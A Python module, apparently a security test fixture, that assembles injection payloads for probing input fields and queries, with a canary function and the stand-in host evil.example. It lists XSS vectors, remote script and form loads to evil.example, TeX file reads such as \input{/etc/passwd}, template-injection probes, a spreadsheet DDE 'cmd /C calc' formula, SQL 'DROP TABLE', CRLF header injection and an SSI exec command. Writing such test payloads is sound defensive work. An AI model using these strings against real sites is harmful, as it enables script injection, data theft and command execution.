"""What is planted in fields and queries: markup, TeX, addresses, templates, formulas and signs that break things. Whatever of it runs calls
`__x()`, asks evil.example, or leaves an element that no page of ours has."""

from __future__ import annotations

OUT_OF = [
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</svg>",
    "</math>",
    "</a>",
    "</p></li></ul>",
    "\\x3e",
]
MARKUP = [
    "<script>__x()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=__x()>",
    "<svg onload=__x()>",
    "<svg><script>__x()</script></svg>",
    "<body onload=__x()>",
    "<iframe srcdoc='<script>parent.__x()</script>'>",
    "<details open ontoggle=__x()>",
    "<input autofocus onfocus=__x()>",
    "<video><source onerror=__x()></video>",
    "<math><mtext><img src=x onerror=__x()>",
    "<a href=javascript:__x()>a</a>",
    "<object data=//evil.example/>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example/><input name=q>",
    "<style>@import '//evil.example/x.css'</style>",
]
IN_AN_ATTRIBUTE = [f"{quote} {handler}=__x() {more}" for quote in ('"', "'", "`") for handler, more in (
    ("onmouseover", "x="), ("autofocus onfocus", ""), ("style=animation-name:x onanimationstart", ""), ("hx-on:load", ""),
    ("hx-get=//evil.example/ hx-trigger", ""),
)]  # fmt: skip
TEX = [
    r"$\href{javascript:__x()}{a}$", r"$\url{javascript:__x()}$", r"$\text{<img src=x onerror=__x()>}$", r"$\unicode{<script>}$",
    r"$\html{<script>__x()</script>}$", r"$<script>__x()</script>$", r"$x</math><img src=x onerror=__x()>$",
    r"$\class{x\" onload=__x()}{a}$",
    r"\(</annotation><script>__x()</script>\)", r"$\mbox{</mtext><svg onload=__x()>}$",
    r"$\cssId{a}{b}\style{background:url(//evil.example/)}{c}$",
    r"$\includegraphics{//evil.example/x.png}$", r"\input{/etc/passwd}", r"$" + "{" * 60 + "}" * 60 + "$", r"$\def\a{\a\a}\a$",
    r"$\frac{$", "$$$$$",
]  # fmt: skip
ADDRESSES = [
    "javascript:__x()", "JaVaScRiPt:__x()", "java\tscript:__x()", "data:text/html,<script>__x()</script>", "vbscript:__x()",
    "//evil.example/", "https:evil.example", r"\\evil.example", "[a](javascript:__x())",
    "[a](data:text/html;base64,PHN2Zy9vbmxvYWQ9X194KCk+)",
    "![a](//evil.example/x.png)", "[a]: javascript:__x()\n[a]", "<javascript:__x()>", "[a](//evil.example 'b\" onclick=__x()')",
]  # fmt: skip
TEMPLATES = [
    "{{ 7|add:7 }}", "{% load static %}", "{% debug %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('__x()')()}}",
    "[[${7*7}]]", "%s%n%x", "{0.__class__}",
]  # fmt: skip
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"//evil.example\")", "|cmd", "=cmd|' /C calc'!A0",
]  # fmt: skip
SIGNS = [
    "\u202egnp.exe", "\u2066a\u2069", "\u200b\ufeff", "a\u0301" * 20, "\r\nSet-Cookie: x=1", "%0d%0aX: 1", "\x1b[2J",
    "'; DROP TABLE works_work; --",
    "a" * 300, "\U0001f9d1\u200d\U0001f52c", "&lt;script&gt;__x()&lt;/script&gt;", "&#x3c;script&#x3e;__x()&#x3c;/script&#x3e;",
    "%3Cscript%3E__x()%3C/script%3E", "\\u003cscript\\u003e__x()\\u003c/script\\u003e", "</script><!--<script>", "<!--#exec cmd=id-->",
]  # fmt: skip

PAYLOADS = [out + vector for vector in MARKUP for out in OUT_OF] + IN_AN_ATTRIBUTE + TEX + ADDRESSES + TEMPLATES + FORMULAS + SIGNS
